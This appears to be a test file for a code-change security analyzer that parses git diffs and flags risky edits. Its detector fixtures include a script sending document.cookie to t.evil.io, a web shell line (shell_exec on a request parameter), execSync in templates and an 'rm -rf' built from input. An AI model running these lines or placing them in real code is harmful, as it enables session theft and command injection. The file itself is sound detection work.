import { analyzeFile } from '../../activities/change/analyze-file';
import { contextDir, rootedExcludes } from '../../activities/change/build-context';
import { keyPaths } from '../../activities/change/key-paths';
import { parseBatch } from '../../activities/shared/git';
import { parsePatch, unquote, type FilePatch } from '../../activities/change/patch';
import { parseRawNumstat, type RawEntry } from '../../activities/change/raw-diff';
import { compareDeclarations, tsDeclarations } from '../../activities/change/symbols-ts';
import { topicsIn, wordsOf } from '../../activities/change/vocabulary';
import type { FindingKind } from '../../model/change';

// The pure parts of the change analyzer: git output parsers, symbol extraction, vocabulary, detectors.

const OLD = '1'.repeat(40);
const NEW = '2'.repeat(40);

describe('git output', () => {
  test('raw + numstat records, with a rename, a binary file and a deletion', () => {
    const out = [
      `:100644 100644 ${OLD} ${NEW} M`, 'src/a.ts',
      `:100644 100644 ${OLD} ${OLD} R087`, 'old name.ts', 'new name.ts',
      `:100644 100644 ${OLD} ${NEW} M`, 'logo.png',
      `:100644 000000 ${OLD} ${'0'.repeat(40)} D`, 'gone.md',
      '3\t1\tsrc/a.ts', '2\t2\t', 'old name.ts', 'new name.ts', '-\t-\tlogo.png', '0\t4\tgone.md', '',
    ].join('\0');
    expect(parseRawNumstat(out).map((e) => [e.status, e.path, e.previousPath, e.similarity, e.additions, e.deletions, e.binary])).toEqual([
      ['modified', 'src/a.ts', undefined, undefined, 3, 1, false],
      ['renamed', 'new name.ts', 'old name.ts', 87, 2, 2, false],
      ['modified', 'logo.png', undefined, undefined, 0, 0, true],
      ['deleted', 'gone.md', undefined, undefined, 0, 4, false],
    ]);
  });

  test('a -U0 patch: line numbers per side, function context, quoted names, type changes merged', () => {
    const patch = [
      'diff --git a/src/a.ts b/src/a.ts',
      'index 1111111..2222222 100644',
      '--- a/src/a.ts',
      '+++ b/src/a.ts',
      '@@ -2 +2 @@ export function f() {',
      '-  return 1;',
      '+  return 2;',
      '@@ -10,0 +11,2 @@ export function g() {',
      '+  log();',
      '+  --- not a header',
      'diff --git "a/we\\"ird\\303\\251.txt" "b/we\\"ird\\303\\251.txt"',
      '--- "a/we\\"ird\\303\\251.txt"',
      '+++ "b/we\\"ird\\303\\251.txt"',
      '@@ -1 +1 @@',
      '-x',
      '\\ No newline at end of file',
      '+y',
      'diff --git a/link b/link',
      'deleted file mode 100644',
      '--- a/link',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      '-content',
      'diff --git a/link b/link',
      'new file mode 120000',
      '--- /dev/null',
      '+++ b/link',
      '@@ -0,0 +1 @@',
      '+target',
      '',
    ].join('\n');
    const files = parsePatch(patch);
    expect([...files.keys()]).toEqual(['src/a.ts', 'we"irdé.txt', 'link']);
    const a = files.get('src/a.ts')!;
    expect(a.hunks).toEqual([
      { oldStart: 2, newStart: 2, context: 'export function f() {', removed: [{ line: 2, text: '  return 1;' }], added: [{ line: 2, text: '  return 2;' }] },
      { oldStart: 10, newStart: 11, context: 'export function g() {', removed: [], added: [{ line: 11, text: '  log();' }, { line: 12, text: '  --- not a header' }] },
    ]);
    expect(files.get('link')!.hunks.map((h) => [h.removed.length, h.added.length])).toEqual([[1, 0], [0, 1]]);
  });

  test('unquote undoes C quoting and the trailing tab of names with spaces', () => {
    expect(unquote('"a\\tb\\\\c\\303\\251"')).toBe('a\tb\\cé');
    expect(unquote('a/with space.txt\t')).toBe('a/with space.txt');
  });

  test('cat-file --batch output, with missing objects', () => {
    const out = Buffer.concat([Buffer.from(`${OLD} blob 5\nhello\n${NEW} missing\n${'3'.repeat(40)} blob 0\n\n`)]);
    const objects = parseBatch(out);
    expect(objects.get(OLD)?.toString()).toBe('hello');
    expect(objects.has(NEW)).toBe(false);
    expect(objects.get('3'.repeat(40))?.length).toBe(0);
  });
});

describe('TypeScript symbols', () => {
  test('express routes (plain and chained), CommonJS exports, wrapped handlers', () => {
    const decls = tsDeclarations(
      `const express = require('express');
const app = express();
app.get('/health', (req, res) => res.send('ok'));
app.route('/orders/:id').put(update).delete(remove);
router.use('/admin', adminRouter);
module.exports.handler = withAuth(async (event) => event);
exports.VERSION = '3';
export default app;
`,
      'server.js',
    );
    expect(decls.map((d) => d.key)).toEqual([
      'function handler',
      'export VERSION',
      'export default',
      'route GET /health',
      'route DELETE /orders/:id',
      'route PUT /orders/:id',
      'route USE /admin',
    ]);
  });

  test('overloads and repeated routes get distinct keys; only real changes count', () => {
    const before = tsDeclarations("app.get('/a', h1);\napp.get('/a', h2);\nfunction f(x: number) {\n  return x; // one\n}\n", 'a.ts');
    const after = tsDeclarations("app.get('/a', h1);\napp.get('/a', h3);\nfunction f(x: number) {\n  return x; // two\n}\n", 'a.ts');
    expect(compareDeclarations(before, after)).toEqual([{ name: 'GET /a', kind: 'route', change: 'changed' }]);
  });
});

describe('vocabulary', () => {
  test('identifiers are split into words', () => {
    expect([...wordsOf('verifyToken(req.headers.Authorization); createCipheriv XMLHttpRequest api_key')]).toEqual(
      expect.arrayContaining(['verifytoken', 'verify', 'token', 'authorization', 'createcipheriv', 'cipheriv', 'xml', 'http', 'request', 'api', 'key']),
    );
  });

  test('strong words count anywhere, weak words only where they are removed, keys, or names', () => {
    expect(topicsIn("app.use(csrf({ cookie: false }));", false).map((h) => h.topic)).toEqual(['security-control']);
    expect(topicsIn('router.get("/me", requireAuth, getProfile);', false)).toEqual([]);
    expect(topicsIn('router.get("/me", requireAuth, getProfile);', true)).toEqual([{ topic: 'auth', word: 'auth' }]);
    expect(topicsIn('const author = post.author;', true)).toEqual([]);
    expect(topicsIn('await stripe.paymentIntents.create({ amount })', false).map((h) => h.topic)).toEqual(['payments']);
    expect(topicsIn('const key = process.env.STRIPE_SECRET_KEY;', false)).toEqual([
      { topic: 'payments', word: 'stripe' },
      { topic: 'secrets', word: 'process.env.STRIPE_SECRET' },
    ]);
    expect(topicsIn('- uses: actions/checkout@v4', false)).toEqual([]);
  });
});

test('config key paths: YAML by indentation, JSON, TOML sections, .env keys', () => {
  expect(keyPaths('server:\n  csrf:\n    enabled: true\n  ports:\n  - "8080:80"\nlog: info\n', 'yaml')).toEqual([
    ['server'], ['server', 'csrf'], ['server', 'csrf', 'enabled'], ['server', 'ports'], ['server', 'ports'], ['log'], ['log'],
  ]);
  expect(keyPaths('{\n  "cors": {\n    "origin": "*"\n  }\n}\n', 'json')[2]).toEqual(['cors', 'origin']);
  expect(keyPaths('[session]\nttl = "8h"\n', 'toml')[1]).toEqual(['session', 'ttl']);
  expect(keyPaths('export SESSION_SECRET=abc\n', 'env')[0]).toEqual(['SESSION_SECRET']);
});

describe('detectors (analyzeFile on a patch and both versions)', () => {
  const entry = (path: string, status: RawEntry['status'] = 'modified'): RawEntry => ({
    path, status, oldMode: '100644', newMode: '100644',
    oldId: status === 'added' ? '0'.repeat(40) : OLD, newId: status === 'deleted' ? '0'.repeat(40) : NEW,
    additions: 1, deletions: 1, binary: false,
  });
  const patchOf = (removed: string[], added: string[], start = 1): FilePatch => ({
    hunks: [{ oldStart: start, newStart: start, context: '', removed: removed.map((text, i) => ({ line: start + i, text })), added: added.map((text, i) => ({ line: start + i, text })) }],
  });
  const found = (path: string, removed: string[], added: string[], texts: { oldText?: string; newText?: string } = {}, status?: RawEntry['status']) =>
    analyzeFile({ entry: entry(path, status), patch: patchOf(removed, added), oldText: texts.oldText ?? removed.join('\n'), newText: texts.newText ?? added.join('\n') });
  const kindsOf = (r: ReturnType<typeof found>): FindingKind[] => [...new Set(r.file.findings.map((f) => f.kind))];

  test('destructive SQL is data-destructive, except in the rollback half of a migration', () => {
    expect(kindsOf(found('migrations/3.sql', [], ['ALTER TABLE users DROP COLUMN nickname;'], {}, 'added'))).toEqual(['data-destructive']);
    expect(kindsOf(found('migrations/3.down.sql', [], ['ALTER TABLE users DROP COLUMN nickname;'], {}, 'added'))).toEqual(['data']);
    const sql = '-- migrate:up\nALTER TABLE users ADD COLUMN nickname TEXT;\n-- migrate:down\nALTER TABLE users DROP COLUMN nickname;\n';
    const marked = analyzeFile({ entry: entry('db/migrations/4.sql', 'added'), patch: patchOf([], sql.trimEnd().split('\n')), newText: sql });
    expect(kindsOf(marked)).toEqual(['data']);
    expect(kindsOf(found('src/jobs/purge.ts', [], ['await db.query("DELETE FROM sessions");']))).toEqual(expect.arrayContaining(['data-destructive']));
    expect(kindsOf(found('src/jobs/purge.ts', [], ['await db.query("DELETE FROM carts WHERE updated_at < $1", [cutoff]);']))).toEqual(['data']);
  });

  test('permissions: container user, privileged mode, capabilities, sudo, RBAC', () => {
    const docker = found('Dockerfile', ['USER app'], ['USER root']);
    expect(docker.file.findings.map((f) => f.detail)).toEqual(['container user: removed line 1: USER app', 'container user (runs as root): added line 1: USER root']);
    expect(kindsOf(found('docker-compose.yml', [], ['    privileged: true']))).toContain('permissions');
    expect(kindsOf(found('k8s/role.yaml', [], ['kind: ClusterRoleBinding']))).toContain('permissions');
    expect(kindsOf(found('scripts/setup.sh', [], ['sudo setcap cap_net_bind_service=+ep /usr/bin/node']))).toEqual(['permissions']);
  });

  test('network: new clients only when the file had none, ports, outside hosts', () => {
    const fresh = found('src/geo.ts', ['export const x = 1;'], ["import axios from 'axios';"], { oldText: 'export const x = 1;\n' });
    expect(fresh.file.findings.map((f) => f.detail)).toContain("new axios client: added line 1: import axios from 'axios';");
    const existing = found('src/geo.ts', [], ["const r = await axios.get('/v2/regions');"], { oldText: "import axios from 'axios';\n" });
    expect(existing.file.findings).toEqual([]);
    const port = analyzeFile({ entry: entry('config/app.yaml'), patch: patchOf(['  port: 3000'], ['  port: 3001'], 2), oldText: 'server:\n  port: 3000\n', newText: 'server:\n  port: 3001\n' });
    expect(port.file.findings.map((f) => f.detail)).toEqual(['listening port or exposure: removed line 2: port: 3000', 'listening port or exposure: added line 2: port: 3001']);
    const hosts = found('src/x.ts', [], [
      "fetch('https://hooks.slack.com/services/T000/B000')",
      "fetch('http://localhost:3000/health')",
      "fetch('https://api.example.com/x')",
      "const schema = 'http://json-schema.org/draft-07/schema#';",
      'fetch(`https://${host}/x`)',
      "// see https://docs.github.com/en/rest",
    ]);
    expect(hosts.newHosts.map((h) => [h.host, h.webhook])).toEqual([['hooks.slack.com', true]]);
  });

  test('dependencies: npm manifest and lockfile diffs with direction; security-sensitive package names', () => {
    const before = JSON.stringify({ dependencies: { express: '^4.19.2', lodash: '4.17.21' }, devDependencies: { jest: '29.7.0' } });
    const after = JSON.stringify({ dependencies: { express: '^5.0.0', jsonwebtoken: '9.0.2' }, devDependencies: { jest: '29.6.0' } });
    const pkg = found('package.json', [], [], { oldText: before, newText: after });
    expect(pkg.file.findings).toEqual([
      { kind: 'dependencies', detail: '4 dependencies changed: express ^4.19.2 -> ^5.0.0 (major upgrade), jsonwebtoken 9.0.2 added, jest 29.7.0 -> 29.6.0 (downgrade), lodash 4.17.21 removed' },
      { kind: 'auth', detail: 'dependency jsonwebtoken changed in package.json ("jsonwebtoken")' },
    ]);
    const lock = (v: string) => JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/a': { version: v }, 'node_modules/a/node_modules/b': { version: '1.0.0' } } });
    expect(found('package-lock.json', [], [], { oldText: lock('1.0.0'), newText: lock('1.1.0') }).file.findings).toEqual([
      { kind: 'dependencies', detail: '1 locked package(s) changed: a 1.0.0 -> 1.1.0 (upgrade)' },
    ]);
    expect(found('package.json', [], [], { oldText: '{', newText: '{}' }).file.findings[0]?.detail).toContain('could not be parsed');
    expect(found('Dockerfile', ['FROM node:18-slim'], ['FROM node:20-slim']).file.findings).toContainEqual({ kind: 'dependencies', detail: 'base image node:18-slim -> node:20-slim (line 1)', line: 1 });
  });

  test('comment-only and moved lines raise nothing', () => {
    expect(found('src/a.ts', ['// TODO check the session token'], ['// TODO: check the session token properly']).file.findings).toEqual([]);
    const moved = found('src/a.ts', ['  app.use(csrf());'], ['    app.use(csrf());']);
    expect(moved.file.findings).toEqual([]);
  });

  test('outside every build context prose, styles and markup are not read', () => {
    const line = ['Rotate the api_key and disable csrf in dev: https://evil.example.net', "<script>fetch('https://t.evil.io/c')</script>"];
    const texts = { oldText: '', newText: line.join('\n') };
    for (const path of ['docs/security.md', 'src/styles/app.css', 'views/login.ejs']) {
      const r = analyzeFile({ entry: entry(path), patch: patchOf([], line), ...texts, buildContext: 'outside' });
      expect(r.file).toMatchObject({ findings: [], symbolMethod: 'none', buildContext: 'outside' });
      expect(r.file.codeEvidence).toBeUndefined();
      expect(r.newHosts).toEqual([]);
    }
  });

  test('inside a build context prose is judged by its embedded code only; fenced samples and links are not code', () => {
    const lines = [
      'Rotate the api_key and disable csrf in dev: https://docs.partner.io/keys',
      '```js',
      "fetch('https://api.sample.io/x', { body: JSON.stringify({ email }) })",
      '```',
      '<a href="https://status.partner.io">status</a>',
      "<script>fetch('https://t.evil.io/c?d=' + document.cookie)</script>",
    ];
    const md = analyzeFile({ entry: entry('docs/guide.md', 'added'), patch: patchOf([], lines), newText: lines.join('\n') });
    expect(md.file.codeEvidence).toBe("code embedded in prose: added line 6: <script>fetch('https://t.evil.io/c?d=' + document.cookie)</script>");
    expect(md.file.findings.map((f) => f.line)).toEqual([6]);
    expect(md.newHosts.map((h) => h.host)).toEqual(['t.evil.io']);
    const plain = analyzeFile({ entry: entry('README.md', 'added'), patch: patchOf([], lines.slice(0, 5)), newText: lines.slice(0, 5).join('\n') });
    expect(plain.file).toMatchObject({ findings: [], buildContext: 'inside' });
    expect(plain.file.codeEvidence).toBeUndefined();
    expect(plain.newHosts).toEqual([]);
  });

  test('inside a build context templates are code and read whole; styles are read too', () => {
    const ejs = found('views/login.ejs', [], ["<% const who = require('child_process').execSync('id').toString() %>"], {}, 'added');
    expect(ejs.file.codeEvidence).toBe('HTML template: rendered by the service, its tags run code');
    expect(kindsOf(ejs)).toEqual(['command-execution']);
    const css = found('src/styles/app.css', [], ["@import url('https://fonts.cdn-partner.net/inter.css');"]);
    expect(css.newHosts.map((h) => h.host)).toEqual(['fonts.cdn-partner.net']);
  });

  test('command execution: child_process, eval, subprocess, os/exec, shell calls; not RegExp.exec or redis.eval', () => {
    for (const [path, line] of [
      ['src/a.ts', "import { execFile } from 'node:child_process';"],
      ['src/a.js', 'const out = execSync(`convert ${file}`);'],
      ['src/a.js', 'const f = new Function("return " + expr);'],
      ['src/a.js', 'return eval(body);'],
      ['app/run.py', 'subprocess.run(cmd, shell=True)'],
      ['app/run.py', 'os.system("rm -rf " + path)'],
      ['cmd/main.go', 'out, _ := exec.Command("sh", "-c", input).Output()'],
      ['web/index.php', 'echo shell_exec($_GET["cmd"]);'],
    ]) {
      const r = found(path!, [], [line!], { oldText: '' });
      expect({ line, kinds: kindsOf(r) }).toEqual({ line, kinds: expect.arrayContaining(['command-execution']) });
    }
    for (const line of ['const m = /x/.exec(text);', "await redis.eval(script, 0);", '// execSync is not used here']) {
      expect(kindsOf(found('src/b.ts', [], [line], { oldText: '' }))).not.toContain('command-execution');
    }
  });

  test('personal data sent to an outside host is an external integration, known host or new', () => {
    const lines = [
      'export async function subscribe(user: User) {',
      "  await fetch('https://api.mailfunnel.io/v2/contacts', {",
      "    method: 'POST',",
      '    body: JSON.stringify({ email: user.email, name: user.name, address: user.address }),',
      '  });',
      '}',
    ];
    const r = found('src/newsletter.ts', [], lines, { oldText: '' }, 'added');
    expect(r.file.findings.filter((f) => f.kind === 'external-integration').map((f) => f.detail)).toEqual([
      "personal data (email, name, address) sent to outside host api.mailfunnel.io: added line 2 in subscribe: await fetch('https://api.mailfunnel.io/v2/contacts', {",
    ]);
    // The host in a constant of the same change, a templated subdomain, card fields
    const constant = found('src/track.js', [], ["const COLLECTOR = 'https://collect.adtrack.net/e';", 'navigator.sendBeacon(COLLECTOR, JSON.stringify({ phone, dob }));'], { oldText: '' });
    expect(constant.file.findings.map((f) => f.detail)).toContainEqual(expect.stringContaining('personal data (phone, birth date) sent to outside host collect.adtrack.net'));
    const templated = found('src/eu.ts', [], ['await axios.post(`https://${region}.cardvault.io/v1`, { cardNumber, cvv });'], { oldText: '' });
    expect(templated.file.findings.map((f) => f.detail)).toContainEqual(expect.stringContaining('personal data (payment card or bank account) sent to outside host cardvault.io'));
    // No personal data, a bare `name`, or no readable outside destination: no such finding
    const none = (added: string[]) => found('src/x.ts', [], added, { oldText: '' }).file.findings.filter((f) => f.detail.startsWith('personal data'));
    expect(none(["await fetch('https://api.partner.io/v1/orders', { body: JSON.stringify({ orderId, total }) });"])).toEqual([]);
    expect(none(["await fetch('https://api.partner.io/v1/tags', { body: JSON.stringify({ name: tag.name }) });"])).toEqual([]);
    expect(none(["await fetch('/api/profile', { body: JSON.stringify({ email, address }) });"])).toEqual([]);
  });

  test('templated hosts: the fixed part after the template is the host; links are not integrations', () => {
    const hosts = (line: string) => found('src/x.ts', [], [line]).newHosts.map((h) => h.host);
    expect(hosts('fetch(`https://${tenant}.collect.io/v1`)')).toEqual(['collect.io']);
    expect(hosts("fetch(`https://api.partner.io${path}`)")).toEqual(['api.partner.io']);
    expect(hosts('fetch(`https://${host}/x`)')).toEqual([]);
    expect(hosts("const html = '<a class=\"x\" href=\"https://twitter.com/shop\">us</a>';")).toEqual([]);
  });

  test('a file renamed into a build context is judged whole; renamed out, as removed', () => {
    const body = "module.exports = () => require('child_process').execSync('id');\n";
    const moved = (buildContext: 'entered' | 'left' | 'inside') => analyzeFile({
      entry: { ...entry('src/plugins/plugin.js', 'renamed'), previousPath: 'docs/examples/plugin.js', additions: 0, deletions: 0, oldId: OLD, newId: OLD },
      patch: undefined, oldText: body, newText: body, buildContext,
    });
    const entered = moved('entered');
    expect(kindsOf(entered)).toEqual(['command-execution']);
    expect(entered.file.notes).toContain('renamed into a build context from docs/examples/plugin.js: judged whole, as if added');
    expect(entered.file.status).toBe('renamed');
    expect(moved('left').file.findings).toEqual([]); // removed lines: no new exec call, but read
    expect(moved('left').file.notes).toContain('renamed out of every build context from docs/examples/plugin.js: judged as removed');
    expect(moved('inside').file.findings).toEqual([]);
  });
});

describe('build contexts', () => {
  test('the context directory comes from airlock.yaml, leniently', () => {
    expect(contextDir('services/web', 'build:\n  context: .\n')).toBe('services/web');
    expect(contextDir('services/web', 'build:\n  context: app/\n')).toBe('services/web/app');
    expect(contextDir('.', 'service: x\n')).toBe('');
    expect(contextDir('services/web', 'build: [unclosed')).toBe('services/web');
    expect(contextDir('services/web', 'build:\n  context: ../../..\n')).toBe(''); // leaves the repository: all of it
    expect(contextDir('services/web', 'build:\n  context: /abs\n')).toBe('');
  });

  test(".dockerignore patterns become the build's own pathspecs, from the repository root", () => {
    expect(rootedExcludes('services/web', '# comment\nnode_modules\n/docs/\n!keep.md\n*.md\n')).toEqual([
      ':(top,exclude,glob)services/web/node_modules', ':(top,exclude,glob)services/web/node_modules/**',
      ':(top,exclude,glob)services/web/docs', ':(top,exclude,glob)services/web/docs/**',
      ':(top,exclude,glob)services/web/*.md', ':(top,exclude,glob)services/web/*.md/**',
    ]);
    expect(rootedExcludes('', 'tmp\n')).toEqual([':(top,exclude,glob)tmp', ':(top,exclude,glob)tmp/**']);
    expect(rootedExcludes('we[ird]', 'x\n')[0]).toBe(':(top,exclude,glob)we\\[ird\\]/x');
  });
});
